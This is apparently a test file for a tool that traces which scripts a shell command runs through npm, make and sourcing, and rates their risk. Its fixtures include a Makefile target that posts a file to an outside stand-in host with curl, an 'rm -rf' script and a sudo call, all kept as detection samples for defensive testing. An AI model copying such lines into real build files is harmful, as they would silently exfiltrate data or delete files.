import assert from 'node:assert/strict'
import { execFileSync } from 'node:child_process'
import { createHash } from 'node:crypto'
import { mkdir, mkdtemp, rm, symlink, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { dirname, join } from 'node:path'
import { after, before, describe, it } from 'node:test'
import { createScripts } from '../../src/adapters/scripts.ts'
import { assess, subjectOf } from '../assessment/subject.ts'

const files: Readonly<Record<string, string>> = {
  'tidy.sh': '#!/bin/sh\n. ./lib/clean.sh\n',
  'lib/clean.sh': 'rm -rf "$1"\n',
  run: '#!/usr/bin/env bash\nbash tidy.sh\n',
  'loop.sh': 'bash loop.sh\n',
  't.py': 'print(1)\n',
  tool: '#!/usr/bin/env python3\nrm = 1\n',
  'package.json': JSON.stringify({
    scripts: { pretest: 'node t.js', test: 'npm run lint && bash tidy.sh', lint: 'eslint .' },
  }),
  Makefile:
    'BIN = out\nall: build\n\techo done\nbuild:\n\t@curl -d @x https://e.example.net\n\nclean: ; rm -rf $(BIN)\n',
  'sub/Makefile': 'x:\n\tsudo ls\n',
  binary: 'a\0b',
}

describe('the scripts that a command runs', () => {
  let root = ''
  before(async () => {
    root = await mkdtemp(join(tmpdir(), 'scripts-'))
    for (const [path, text] of Object.entries(files)) {
      await mkdir(dirname(join(root, 'w', path)), { recursive: true })
      await writeFile(join(root, 'w', path), text)
    }
    await writeFile(join(root, 'outside.sh'), 'echo outside\n')
    await symlink(join(root, 'outside.sh'), join(root, 'w', 'link.sh'))
    await symlink('tidy.sh', join(root, 'w', 'inner.sh'))
    execFileSync('mkfifo', [join(root, 'w', 'pipe.sh')])
  })
  after(() => rm(root, { recursive: true }))

  const follow = (run: string, workingDirectory = '.') =>
    createScripts({ workspace: join(root, 'w') }).follow({ ...subjectOf(run).command, workingDirectory })
  const paths = async (run: string, directory?: string) =>
    (await follow(run, directory)).map(({ path }) => path)

  it('are found by name, through each other, each once', async () => {
    const rows: readonly (readonly [string, readonly string[]])[] = [
      ['bash tidy.sh --now', ['tidy.sh', 'lib/clean.sh']],
      ['cd x && ./run | tee log', ['run', 'tidy.sh', 'lib/clean.sh']],
      ['sudo env A=b timeout 9 sh -e tidy.sh', ['tidy.sh', 'lib/clean.sh']],
      ['source lib/clean.sh', ['lib/clean.sh']],
      ['bash -c "sh tidy.sh"', ['tidy.sh', 'lib/clean.sh']],
      ['bash loop.sh', ['loop.sh']],
      ['python3 -u t.py', ['t.py']],
      ['./tool', ['tool']],
      [
        'npm test',
        ['package.json#pretest', 'package.json#test', 'package.json#lint', 'tidy.sh', 'lib/clean.sh'],
      ],
      ['pnpm run lint', ['package.json#lint']],
      ['make', ['Makefile#']],
      ['make -j4 clean V=1', ['Makefile#clean']],
      ['make -C sub x', ['sub/Makefile#x']],
      ['cd sub && make x', ['sub/Makefile#x']],
      ['cd lib; bash clean.sh', ['lib/clean.sh']],
      ['(pushd lib && cd ..) && bash tidy.sh', ['tidy.sh', 'lib/clean.sh']],
      ['bash inner.sh', ['tidy.sh', 'lib/clean.sh']],
      ['npm ci', []],
      ['echo tidy.sh', []],
      ['node -e "1"', []],
    ]
    for (const [run, expected] of rows) assert.deepEqual(await paths(run), expected, run)
  })

  it('lie in the workspace after every link, and are regular files of text', async () => {
    const elsewhere = [
      'bash link.sh',
      `bash ${join(root, 'outside.sh')}`,
      'bash ../outside.sh',
      'bash pipe.sh',
      'bash lib',
      './binary',
      'bash /dev/stdin',
      'bash no.sh',
    ]
    for (const run of elsewhere) assert.deepEqual(await paths(run), [], run)
  })

  it("are looked for from the command's directory", async () => {
    assert.deepEqual(await paths('bash clean.sh', 'lib'), ['lib/clean.sh'])
    assert.deepEqual(await paths('bash ../tidy.sh', 'lib'), ['tidy.sh', 'lib/clean.sh'].slice(0, 1))
  })

  it('carry the digest of the whole file, so that a change of it changes the request', async () => {
    const [script] = await follow('bash tidy.sh')
    const [entry] = await follow('npm run lint')
    assert.equal(
      script?.digest,
      createHash('sha256')
        .update(files['tidy.sh'] ?? '')
        .digest('hex'),
    )
    assert.equal(
      entry?.digest,
      createHash('sha256')
        .update(files['package.json'] ?? '')
        .digest('hex'),
    )
  })

  it('do not hide behind a harmless name', async () => {
    const rows = [
      ['npm test', 'deletes-files'],
      ['make', 'sends-data'],
      ['make clean', 'deletes-files'],
      ['./run', 'deletes-files'],
      ['make -C sub x', 'elevates'],
    ] as const
    for (const [run, id] of rows) {
      const { findings, riskLevel } = assess(run, { scripts: await follow(run) })
      assert.deepEqual([riskLevel, findings.some((finding) => finding.id === id)], ['high', true], run)
    }
  })

  it('are few, however many a script names', async () => {
    const run = Array.from({ length: 100 }, (_, index) => `bash s${index}.sh`).join('\n')
    for (let index = 0; index < 100; index += 1) await writeFile(join(root, 'w', `s${index}.sh`), 'echo\n')
    assert.equal((await follow(run)).length, 20)
  })

  it('are none where there is no workspace', async () => {
    assert.deepEqual(
      await createScripts({ workspace: join(root, 'nowhere') }).follow(subjectOf('bash x.sh').command),
      [],
    )
  })
})
